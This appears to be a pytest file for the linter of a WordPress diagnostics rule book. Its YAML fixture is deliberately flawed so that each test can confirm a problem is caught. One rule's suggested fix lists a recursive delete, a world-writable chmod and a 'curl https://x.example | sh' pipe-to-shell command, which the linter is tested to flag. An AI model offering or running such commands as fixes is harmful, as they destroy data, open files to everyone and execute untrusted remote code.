"""The check of rules finds what is wrong with them."""

from __future__ import annotations

from pathlib import Path

import pytest

from wpdiag.advise import RuleBook, load
from wpdiag.authoring import examples
from wpdiag.authoring.lint import check_all

BAD = """rules:
  - id: twice
    title: One
    match: {identifier: php.undefined_array_key, params: {key: 'tot'}}
    why: w
    fix: {summary: s, commands: ['rm -rf wp-content/cache', 'chmod -R 777 .', 'curl https://x.example | sh']}
    examples:
      match: ['PHP Warning:  Undefined array key "total" in /x.php on line 3']
  - id: twin
    title: Two
    match: {identifier: php.undefined_array_key, params: {key: 'total'}}
    why: w {key}
    fix: {summary: "Update {gadget|it}."}
    examples:
      match: ['PHP Warning:  Undefined array key "total" in /x.php on line 3']
      no_match: ['PHP Warning:  other in /x.php on line 3']
  - id: same
    title: Three
    match: {identifier: php.undefined_array_key, params: {key: 'total'}}
    why: w
    fix: {summary: s}
    examples:
      match: ['PHP Warning:  Undefined array key "total" in /x.php on line 3']
      no_match: ['PHP Warning:  other in /x.php on line 3']
  - id: slow
    title: Four
    match: {identifier: php.warning, message: '(a|a?)+(?:b|c)$'}
    why: w
    fix: {summary: s}
    examples:
      match: ['PHP Warning:  aab in /x.php on line 3']
      no_match: ['PHP Warning:  other in /x.php on line 3']
  - id: twice
    title: Five
    match: {identifier: php.no_such_thing}
    why: w
    fix: {summary: s}
    examples: {match: [a], no_match: [b]}
guides:
  - match: {identifier: php.nobody_says_this}
    impact: down
findings:
  - identifier: site.without_a_rule
    level: warning
    message: Something
    match: {identifier: "php.*", file: '^/x'}
    example: file
    examples: {match: [a]}
"""


@pytest.mark.parametrize(
    "words",
    [
        "the id twice is there twice",
        "twin: matches just what same matches",
        "deletes files for good",
        "lets everybody write",
        "runs what it downloads or builds",
        "twin: {key} needs words for when it is not known",
        "twin: {gadget|it}: no such placeholder",
        "slow: too slow",
        "guide: unknown identifier php.nobody_says_this",
        "finding site.without_a_rule: no rule says what it means",
        "fit equally well",
    ],
)
def test_the_check_finds(words: str, tmp_path: Path) -> None:
    file = tmp_path / "bad.yml"
    file.write_text(
        BAD if "there twice" in words else BAD.replace("id: twice\n    title: Five", "id: five\n    title: Five")
    )
    assert any(words in problem for problem in check_all(RuleBook(load([file]))))


def test_an_example_that_leads_nowhere_fails_the_test(tmp_path: Path) -> None:
    file = tmp_path / "bad.yml"
    file.write_text(BAD)
    book = RuleBook(load([file]))
    problems = [problem for rule in book if not book.is_own(rule) for problem in examples.problems_of_rule(book, rule)]
    assert any(problem.startswith("twice: example leads to") for problem in problems)
